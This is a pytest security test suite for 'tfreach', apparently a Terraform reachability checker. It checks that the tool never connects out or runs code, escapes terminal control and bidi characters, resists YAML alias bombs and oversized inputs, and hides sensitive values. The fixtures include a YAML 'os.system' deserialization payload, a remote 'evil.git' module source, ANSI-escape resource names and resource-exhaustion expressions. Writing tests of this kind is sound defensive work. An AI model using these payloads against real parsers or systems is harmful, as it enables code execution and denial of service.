"""tfreach never runs, fetches or connects to anything named in its input, and escapes what it prints."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import REPO, SAMPLES, sample_plan
from e2e.helpers import run_cli

from tfreach.cli import main

HOSTILE = SAMPLES / "hostile-names"


@pytest.fixture
def no_escape(monkeypatch):
    """Any attempt to connect, resolve a name or start a process fails the test."""

    def refused(*args, **kwargs):
        raise AssertionError(f"tfreach tried to reach out: {args[:2]}")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    monkeypatch.setattr(subprocess, "Popen", refused)
    monkeypatch.setattr("os.system", refused)
    monkeypatch.setattr("os.execv", refused)


def invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def test_checking_plans_and_sources_never_connects_or_runs_anything(no_escape, tmp_path):
    (tmp_path / "main.tf").write_text(
        'module "remote" {\n  source = "git::https://example.com/evil.git"\n}\n'
        'data "http" "payload" {\n  url = "https://example.com/payload"\n}\n'
        'resource "aws_instance" "x" {\n  user_data = data.http.payload.response_body\n'
        "  subnet_id = module.remote.subnet_id\n}\n"
    )
    for fmt in ("table", "json", "sarif", "junit", "markdown", "github"):
        assert invoke("check", str(sample_plan("sources-features")), "--format", fmt).exit_code in (0, 1)
        assert invoke("check", str(tmp_path), "--format", fmt).exit_code in (0, 1)
    assert invoke("explain", str(tmp_path), "aws_instance.x").exit_code == 0
    assert invoke("graph", str(sample_plan("inspector-blog")), "--format", "dot").exit_code == 0


def test_a_config_file_cannot_run_code(no_escape, tmp_path):
    config = tmp_path / ".tfreach.yml"
    config.write_text('fail_on: !!python/object/apply:os.system ["touch pwned"]\n')
    result = invoke("check", str(sample_plan("inspector-blog")), "--config", str(config))
    assert result.exit_code == 2 and str(config) in result.output
    assert not (tmp_path / "pwned").exists()


CONTROL = [chr(c) for c in range(32) if chr(c) not in "\n\t"] + ["\x7f", "\x9b"]


@pytest.mark.parametrize("target", ["plan", "sources"])
@pytest.mark.parametrize("fmt", ["table", "json", "sarif", "junit", "markdown", "github"])
def test_hostile_names_reach_no_output_unescaped(target, fmt):
    path = HOSTILE / "plan.json" if target == "plan" else HOSTILE
    result = run_cli("check", str(path), "--format", fmt, "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    for text in (result.stdout, result.stderr):
        assert not [c for c in CONTROL if c in text], fmt


def test_explain_and_graph_escape_hostile_names_too():
    address = 'aws_instance.box["esc\\u001b[31mred"]'
    plan = str(HOSTILE / "plan.json")
    for args in (("explain", plan, address), ("graph", plan), ("graph", plan, "--format", "dot")):
        result = run_cli(*args)
        assert result.returncode == 0, result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout


# --- sources and settings from an untrusted pull request never hang the run -----------------------

PROVIDER = 'provider "aws" {\n  region = "us-east-1"\n}\n'


def sources(tmp_path, body: str):
    (tmp_path / "main.tf").write_text(PROVIDER + body)
    return run_cli("check", str(tmp_path), "--format", "json", "--expand", "--fail-on", "never", timeout=60)


def test_range_is_capped_like_terraforms_and_the_value_is_unknown(tmp_path):
    result = sources(
        tmp_path,
        'locals {\n  big = range(0, 100000000)\n}\nresource "aws_vpc" "v" {\n'
        '  cidr_block = length(local.big) > 0 ? "10.0.0.0/16" : "10.1.0.0/16"\n}\n',
    )
    assert result.returncode == 0 and "more than 1024 values" in result.stdout


def test_huge_numbers_and_products_are_refused_quickly(tmp_path):
    result = sources(
        tmp_path,
        "locals {\n  n = pow(9, pow(9, 9))\n  p = setproduct(range(1000), range(1000))\n}\n"
        'resource "aws_vpc" "v" {\n  cidr_block = "10.0.0.0/16"\n  tags = { n = local.n, p = length(local.p) }\n}\n',
    )
    assert result.returncode == 0


def test_a_huge_count_stops_with_one_line(tmp_path):
    result = sources(tmp_path, 'resource "aws_vpc" "v" {\n  count = 100000000\n  cidr_block = "10.0.0.0/16"\n}\n')
    assert result.returncode == 2 and "more than tfreach reads (10000)" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_tf_file_that_is_a_fifo_or_a_device_is_refused_not_read(tmp_path):
    (tmp_path / "main.tf").write_text(PROVIDER)
    os.mkfifo(tmp_path / "pipe.tf")
    result = run_cli("check", str(tmp_path), timeout=60)
    assert result.returncode == 2 and "is not a regular file" in result.stderr
    (tmp_path / "pipe.tf").unlink()
    if os.path.exists("/dev/zero"):
        (tmp_path / "zero.tf").symlink_to("/dev/zero")
        result = run_cli("check", str(tmp_path), timeout=60)
        assert result.returncode == 2 and "lies outside" in result.stderr  # never opened


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(9)
    ]
    config = tmp_path / ".tfreach.yml"
    config.write_text("\n".join(lines) + "\n")
    result = run_cli("check", str(sample_plan("inspector-blog")), "--config", str(config), timeout=30)
    assert result.returncode == 2 and "aliases (*name) are not allowed" in result.stderr


# --- an untrusted pull request (issue 25): plans that would hang, secrets, tampered rules -----------

INPUTS = REPO / "tests" / "inputs"
SENSITIVE = ("198.51.100.77", "203.0.113.64", "203.0.113.0/24", "SEC-98765", "office SSH")


def timed_cli(*args: str, stdin: bytes | None = None) -> tuple[subprocess.CompletedProcess[str], float]:
    started = time.monotonic()
    result = run_cli(*args, stdin=stdin, timeout=60)
    return result, time.monotonic() - started


@pytest.mark.parametrize("path", ["/dev/zero", "fifo"])
def test_a_device_or_a_fifo_named_as_the_plan_is_refused_at_once(tmp_path, path):
    if path == "fifo":
        if not hasattr(os, "mkfifo"):
            pytest.skip("needs FIFOs")
        path = str(tmp_path / "plan.json")
        os.mkfifo(path)
    elif not os.path.exists(path):
        pytest.skip("needs /dev/zero")
    result, seconds = timed_cli("check", path)
    assert result.returncode == 2 and "is not a regular file" in result.stderr and seconds < 5


def test_a_stream_that_is_not_json_is_refused_after_its_first_bytes():
    with open("/dev/zero", "rb") as zeros:
        started = time.monotonic()
        result = subprocess.run(
            [sys.executable, "-m", "tfreach", "check", "-"], stdin=zeros, capture_output=True, text=True, timeout=60
        )
    assert result.returncode == 2 and "-: is not JSON" in result.stderr and time.monotonic() - started < 5


def test_a_plan_of_a_million_resources_is_refused_before_it_is_parsed(tmp_path):
    entry = (
        '{{"address":"null_resource.x[{0}]","mode":"managed","type":"null_resource","name":"x","index":{0},'
        '"change":{{"actions":["create"],"before":null,"after":{{}},"after_unknown":{{}}}}}}'
    )
    plan = tmp_path / "million.json"
    with plan.open("w") as out:
        out.write('{"format_version":"1.2","resource_changes":[')
        out.write(",".join(entry.format(n) for n in range(1_000_000)))
        out.write("]}")
    result, seconds = timed_cli("check", str(plan))
    assert result.returncode == 2 and "more than 200,000 resources" in result.stderr
    assert seconds < 5  # ~1 s here: counted in the bytes, never parsed


@pytest.mark.parametrize("junk", ["x", 5, [None], ["x"]], ids=["a string", "a number", "[null]", '["x"]'])
def test_a_security_group_whose_rules_cannot_be_read_fails_the_gate_like_the_good_plan(tmp_path, junk):
    document = json.loads(sample_plan("inspector-blog").read_text())
    for change in document["resource_changes"]:
        if change["type"] == "aws_security_group":
            change["change"]["after"]["ingress"] = junk
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(document))
    good = run_cli("check", str(sample_plan("inspector-blog")))
    result = run_cli("check", str(plan), "--format", "json", "--expand")
    assert good.returncode == 1 and result.returncode == 1
    warnings = [w["message"] for w in json.loads(result.stdout)["warnings"]]
    assert any("assumed to allow everything" in w for w in warnings)


@pytest.mark.parametrize("mode", ["plan", "sources"])
@pytest.mark.parametrize("fmt", ["table", "json", "sarif", "junit", "markdown", "github"])
def test_sensitive_values_are_analysed_and_never_printed(mode, fmt):
    """The office CIDR, the partner range derived from a secret and a tag's reason are sensitive."""
    path = INPUTS / "sensitive-values" / ("plan.json" if mode == "plan" else "")
    result = run_cli("check", str(path), "--format", fmt, "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    assert [s for s in SENSITIVE if s in result.stdout + result.stderr] == []
    assert "(sensitive value)" in result.stdout or fmt == "github"  # annotations show what fails only
    report = json.loads(run_cli("check", str(path), "--format", "json", "--expand", "--fail-on", "never").stdout)
    assert {(f["resource"], f["port_range"][0]) for f in report["findings"] if f["type"] == "RecognizedPort"} == {
        ("aws_instance.web", 22),
        ("aws_instance.web", 80),
        ("aws_instance.web", 443),
    }


@pytest.mark.parametrize("command", ["explain", "query", "graph"])
def test_explain_query_and_graph_hide_sensitive_values_too(command):
    plan = str(INPUTS / "sensitive-values" / "plan.json")
    args = {
        "explain": ("explain", plan, "aws_instance.web"),
        "query": ("query", plan, "--from", "internet", "--to", "aws_instance.web", "--format", "json"),
        "graph": ("graph", plan, "--format", "dot"),
    }[command]
    result = run_cli(*args)
    assert result.returncode == 0, result.stderr
    assert [s for s in SENSITIVE if s in result.stdout] == []


def test_warnings_name_where_an_unreadable_value_is_never_the_value(tmp_path):
    document = json.loads(sample_plan("inspector-blog").read_text())
    group = next(c for c in document["resource_changes"] if c["type"] == "aws_security_group")
    group["change"]["after"]["ingress"][0]["from_port"] = "SECRET-PORT"
    group["change"]["after"]["ingress"][0]["cidr_blocks"] = ["SECRET-CIDR"]
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(document))
    for fmt in ("table", "json", "sarif", "junit", "markdown", "github"):
        result = run_cli("check", str(plan), "--format", fmt, "--fail-on", "never")
        assert "SECRET" not in result.stdout + result.stderr, fmt
    warnings = [
        w["message"] for w in json.loads(run_cli("check", str(plan), "--format", "json", "--expand").stdout)["warnings"]
    ]
    assert "ingress[0].from_port/to_port is not a port range; assumed every port" in warnings
    assert "ingress[0].cidr_blocks holds a value that is not a CIDR; assumed 0.0.0.0/0" in warnings


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_bidirectional_and_zero_width_characters_are_never_raw_in_json_or_sarif(tmp_path, fmt):
    """Terraform escapes them in addresses (`["bidi\\u202egnp.exe"]`); a tag's reason holds them raw."""
    document = json.loads((HOSTILE / "plan.json").read_text())
    for change in document["resource_changes"]:
        if change["type"] == "aws_instance":
            reason = "approved\u202e by \u200bthe\u2066 team"
            change["change"]["after"]["tags"] = {"tfreach:allow": "tcp/22", "tfreach:reason": reason}
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(document, ensure_ascii=False))
    result = run_cli("check", str(plan), "--format", fmt, "--fail-on", "never")
    raw = [c for c in ("\u202e", "\u200b", "\u2066") if c in result.stdout]
    assert result.returncode == 0 and raw == [] and "approved" in result.stdout


def test_the_action_pins_every_third_party_action_by_commit():
    uses = re.findall(r"uses:\s*(\S+)", (REPO / "action.yml").read_text())
    assert uses and all(re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", u) for u in uses), uses


def test_the_plan_hook_skips_json_that_is_not_a_plan(tmp_path):
    other = tmp_path / "floor.plan.json"
    other.write_text('{"rooms": 3}')
    result = run_cli("check", "--only-plans", str(other), str(sample_plan("update-remove-sg-rule")))
    assert result.returncode == 0 and "skipped" in result.stderr
    assert run_cli("check", str(other)).returncode == 2  # named on purpose, it is an error


def test_tf_json_files_are_read_in_sources_mode_as_terraform_reads_them():
    folder = INPUTS / "json-syntax"
    alone = check_json_of(folder)
    planned = check_json_of(folder / "plan.json")
    assert finding_set(alone) == finding_set(planned) != set()


def check_json_of(path: Path) -> dict:
    result = run_cli("check", str(path), "--format", "json", "--expand", "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    return dict(json.loads(result.stdout))


def finding_set(report: dict) -> set[tuple]:
    return {
        (f["resource"], f["protocol"], tuple(f["port_range"] or ()), f["source"]["kind"]) for f in report["findings"]
    }
